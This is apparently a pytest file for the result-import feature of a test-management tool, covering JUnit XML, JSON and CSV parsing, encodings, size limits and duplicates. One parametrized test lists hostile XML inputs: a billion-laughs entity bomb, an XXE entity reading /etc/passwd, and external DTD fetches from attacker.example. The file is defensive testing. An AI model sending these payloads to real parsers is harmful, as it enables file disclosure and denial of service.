"""Results in XML from anywhere, and in JSON."""

import pytest

from testkase.foundation.problems import InvalidInput
from testkase.services.workspace.importing.junit_file import read_json, read_junit
from testkase.services.workspace.importing.model import MAX_BYTES, ResultItem, Unreadable
from testkase.services.workspace.importing.reading import kind_of, read_items

RESULTS = b"""<?xml version="1.0" encoding="UTF-8"?>
<testsuites><testsuite name="shop" tests="5">
  <properties><property name="a" value="b"/></properties>
  <testcase classname="shop.PayTest" name="pays" time="1,234.5678"/>
  <testcase classname="shop.PayTest" name="declined" time="0.25">
    <failure message="expected 1">Trace &lt;here&gt;</failure><system-out>secret noise</system-out></testcase>
  <testcase name="alone" time="NaN"><skipped/></testcase>
  <testcase classname="shop.PayTest" name="broke"><error type="E">Boom</error></testcase>
  <testcase classname="shop.PayTest" name="shaky"><flakyFailure message="once"/></testcase>
  <testcase classname="shop.PayTest" time="1"/>
</testsuite></testsuites>"""


def results(data: bytes) -> list[ResultItem]:
    return [item for item in read_junit(data) if isinstance(item, ResultItem)]


def test_every_result_is_read() -> None:
    found = results(RESULTS)
    assert [(one.automation_id, one.outcome.result, one.outcome.duration_ms) for one in found] == [
        ("shop.PayTest.pays", "passed", 1_234_568),
        ("shop.PayTest.declined", "failed", 250),
        ("alone", "skipped", None),
        ("shop.PayTest.broke", "failed", None),
        ("shop.PayTest.shaky", "passed", None),
    ]
    assert found[1].outcome.comment == "expected 1\nTrace <here>"
    assert found[4].outcome.comment == "Passed on a retry.\nonce"
    assert (found[1].title, found[1].line) == ("declined", 5)


def test_a_test_without_a_name_is_reported() -> None:
    assert isinstance(read_junit(RESULTS)[-1], Unreadable)


def test_long_output_is_cut() -> None:
    data = b'<testsuite><testcase name="a"><failure>' + b"x" * 100_000 + b"</failure></testcase></testsuite>"
    assert len(results(data)[0].outcome.comment) == 2_000


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b']><testsuite><testcase name="&j;"/></testsuite>'
)


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&f;"/></testsuite>',
        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><testsuite/>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><testsuite/>',
        b"<!DOCTYPE testsuite><testsuite/>",
        b'<testsuite><testcase name="&unknown;"/></testsuite>',
        b"<html><body/></html>",
        b"<testsuite>",
        b"<testsuite/><testsuite/>",
        b"no xml at all",
        b"\x00\x01\x02",
        b'<?xml version="1.0" encoding="nonsense"?><testsuite/>',
        b"<testsuite>" * 100 + b"</testsuite>" * 100,
        b"<testsuite>" + b'<testcase name="a"/>' * 20_001 + b"</testsuite>",
    ],
)
def test_hostile_and_broken_xml_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidInput):
        read_items("junit", data)


def test_other_encodings_are_read() -> None:
    text = '<?xml version="1.0" encoding="{}"?><testsuite><testcase name="Größe"/></testsuite>'
    for encoding in ("utf-8", "iso-8859-1", "utf-16"):
        assert results(text.format(encoding).encode(encoding))[0].title == "Größe"


def test_a_file_beyond_every_measure_is_refused_unread() -> None:
    for kind in ("csv", "gherkin", "junit", "json"):
        with pytest.raises(InvalidInput, match="larger than 5 MB"):
            read_items(kind, b"x" * (MAX_BYTES + 1))
        with pytest.raises(InvalidInput, match="empty"):
            read_items(kind, b"")


def test_results_in_json_are_read() -> None:
    data = (
        b'[{"title": "Pays", "result": "passed", "duration_ms": 12},{"title": "B", "result": "failed", "message": "m"}]'
    )
    first, second = read_json(data)
    assert isinstance(first, ResultItem)
    assert isinstance(second, ResultItem)
    assert (first.automation_id, first.outcome.duration_ms, second.outcome.comment) == ("Pays", 12, "m")


@pytest.mark.parametrize(
    ("classname", "folder"),
    [
        ("networkx.algorithms.community.tests.test_quality.TestQuality", "networkx / algorithms / community"),
        ("networkx.classes.tests.test_graph", "networkx / classes"),
        ("com.example.shop.cart.payment.PayTest", "com / example / shop / cart.payment"),
        ("tests.unit.test_money", "tests / unit"),
        ("test_money", ""),
        ("PayTest", ""),
        ("src/Button.test.js renders", ""),
        ("", ""),
    ],
)
def test_a_new_case_goes_where_its_class_stands(classname: str, folder: str) -> None:
    (item,) = read_junit(f'<testsuite><testcase classname="{classname}" name="n"/></testsuite>'.encode())
    assert isinstance(item, ResultItem)
    assert item.folder == folder


@pytest.mark.parametrize(
    "data",
    [b"{}", b"[1]", b'[{"title": "A"}]', b'[{"title": "A", "result": "won"}]', b'[{"title": "", "result": "passed"}]',
     b'[{"title": "A", "result": "passed", "more": 1}]', b"[",
     b'[{"title": "A", "result": "passed", "duration_ms": -1}]'],
)  # fmt: skip
def test_json_that_cannot_be_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidInput):
        read_json(data)


def test_a_file_is_known_by_the_end_of_its_name() -> None:
    names = ("a.CSV", "b.tsv", "c.feature", "TEST-d.xml")
    assert [kind_of(name) for name in names] == ["csv", "csv", "gherkin", "junit"]
    with pytest.raises(InvalidInput):
        kind_of("notes.docx")


def test_a_case_that_stands_in_a_file_twice_counts_once() -> None:
    data = b"Key,Title,Folder\nS-1,A,X\nS-1,B,X\n,A,X\n,a,x\n,A,Y\n"
    reasons = [item.reason if isinstance(item, Unreadable) else "" for item in read_items("csv", data)]
    assert reasons == [
        "",
        "It stands in the file already, on line 2.",
        "",
        "It stands in the file already, on line 4.",
        "",
    ]


def test_what_json_can_say_and_the_database_cannot_keep_is_left_out() -> None:
    rows = (
        b'[{"title": "Logs\\u0000 in", "automation_id": "a\\u0000b", "result": "passed", "message": "x\\u0000y"},'
        b' {"title": "\\u0000", "result": "passed"}]'
    )
    first, second = read_json(rows)
    assert isinstance(first, ResultItem)
    assert (first.title, first.automation_id, first.outcome.comment) == ("Logs in", "ab", "xy")
    assert isinstance(second, Unreadable)
    assert (second.line, second.reason) == (2, "The result has no title.")
